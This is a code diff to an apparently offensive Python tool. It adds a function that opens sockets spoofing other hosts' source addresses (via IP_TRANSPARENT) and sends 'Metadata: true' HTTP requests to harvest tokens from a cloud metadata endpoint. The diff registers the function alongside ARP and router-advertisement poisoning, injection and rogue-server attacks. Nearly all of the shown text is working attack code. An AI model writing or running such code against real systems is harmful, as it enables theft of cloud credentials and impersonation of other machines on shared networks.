@@ -67,6 +67,29 @@ def requests(count, address, port, target, source=""):
     return count, tokens
 
 
+def transparent(count, device, address, port, target, *sources):
+    """Requests from sockets that may have anybody's address (IP_TRANSPARENT, which takes root of the namespace) and go out by one
+    device, with each of these addresses as their source; what comes back to them is taken up by the attacker itself."""
+    tokens = []
+    for number in range(count):
+        source = sources[number % len(sources)]
+        try:
+            with socket.socket() as asking:
+                asking.settimeout(PATIENCE / 5)
+                asking.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
+                asking.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
+                asking.bind((source, 0))
+                asking.connect((address, int(port)))
+                asking.sendall(f"GET {target} HTTP/1.1\r\nHost: {address}\r\nMetadata: true\r\nConnection: close\r\n\r\n".encode())
+                answer = b""
+                while more := asking.recv(65536):
+                    answer += more
+                tokens += owners(answer)
+        except OSError:
+            pass
+    return count, tokens
+
+
 def poisoning(count, device, own, own_address, victim, victim_address, victim_link_local):
     """ARP answers and announcements, neighbour and router advertisements, and leases, each of which says that the metadata
     address, the victim's gateway or the victim itself is the attacker."""
@@ -210,7 +233,7 @@ def rogue(address, port):
     http.server.ThreadingHTTPServer((address, int(port)), Rogue).serve_forever()
 
 
-ATTACKS = {function.__name__: function for function in (requests, poisoning, injection, handshakes)}
+ATTACKS = {function.__name__: function for function in (requests, transparent, poisoning, injection, handshakes)}
 
 if __name__ == "__main__":
     if sys.argv[1] == "rogue":
